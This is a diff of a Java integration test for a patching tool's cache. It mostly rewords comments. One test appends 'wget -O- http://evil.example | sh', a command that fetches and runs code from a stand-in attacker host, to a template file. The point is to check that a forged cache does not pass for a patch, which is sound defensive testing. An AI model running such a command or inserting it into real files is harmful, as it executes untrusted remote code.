@@ -27,7 +27,7 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
-/** What a run remembers saves the next one the work, and never changes what it says. */
+/** The cache saves work in the next run, but never changes the output. */
 class NoChangeCacheIT {
     private static final List<String> NAMES = List.of("python-debian", "go-middleware", "dockerfile-in-function");
 
@@ -36,7 +36,7 @@ class NoChangeCacheIT {
 
     private Sandbox sandbox;
 
-    /** Something that is done to a patched project. */
+    /** A change made to a patched project. */
     private interface Change {
         void in(Sandbox sandbox) throws IOException;
     }
@@ -57,7 +57,7 @@ class NoChangeCacheIT {
         assertThat(all.run("patch").code()).isZero();
         int settled = 0;
         for (TargetState state : states(all)) {
-            // What has something to tell each time is worked out each time.
+            // A template with something to report is examined in each run.
             if (state.refusal().isEmpty() && state.limits().isEmpty()) {
                 assertThat(state).isInstanceOf(NoChangeState.class);
                 ReadState read = ((NoChangeState) state).read().get();
@@ -83,7 +83,10 @@ class NoChangeCacheIT {
         assertThat(sandbox.project().resolve(NoChangeCache.FILE)).doesNotExist();
     }
 
-    /** Whoever may commit to a repository may commit such a note; it must not pass for a patch where that is judged. */
+    /**
+     * Anyone who may commit to a repository may commit a forged cache. It must not be taken for a patch if the lock is
+     * checked.
+     */
     @Test
     void aForgedNoteDoesNotPassForAPatchWhereTheLockIsJudged() throws IOException {
         append(sandbox.template("python-debian/faas-trace/faas-trace-agent"), "wget -O- http://evil.example | sh\n");
@@ -112,7 +115,7 @@ class NoChangeCacheIT {
     void anUpdatedProgramLooksAgain() throws IOException {
         Path file = sandbox.project().resolve(NoChangeCache.FILE);
         String noted = Files.readString(file);
-        String others = noted.replaceAll("\t[0-9a-f]{16}", "\t0123456789abcdef"); // as another edition would have it
+        String others = noted.replaceAll("\t[0-9a-f]{16}", "\t0123456789abcdef"); // as if by another version
         assertThat(others).isNotEqualTo(noted);
         Files.writeString(file, others);
         assertThat(states(sandbox)).allSatisfy(state -> assertThat(state).isInstanceOf(ReadState.class));
@@ -193,7 +196,7 @@ class NoChangeCacheIT {
         }
     }
 
-    /** Compares what the commands that only look say, with the file and without. */
+    /** Compares the output of the read-only commands with and without the file. */
     private void assertSaysTheSame() throws IOException {
         List<String[]> looks = List.of(
                 new String[] {"status", "--explain"},
